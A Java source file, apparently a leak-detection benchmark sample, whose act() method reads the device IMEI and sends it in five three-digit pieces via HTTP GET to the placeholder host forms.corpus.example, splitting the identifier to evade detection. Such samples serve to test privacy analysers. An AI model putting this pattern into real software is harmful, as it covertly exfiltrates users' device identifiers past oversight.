package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Three digits each. */
public class SplitRequests extends Screen {
    @Override
    protected void act() throws Exception {
        String imei = Owner.imei(this);
        for (int i = 0; i < 5; i++) {
            Net.get(
                    "http://forms.corpus.example/part"
                            + "?n="
                            + i
                            + "&v="
                            + imei.substring(3 * i, 3 * i + 3));
        }
    }
}
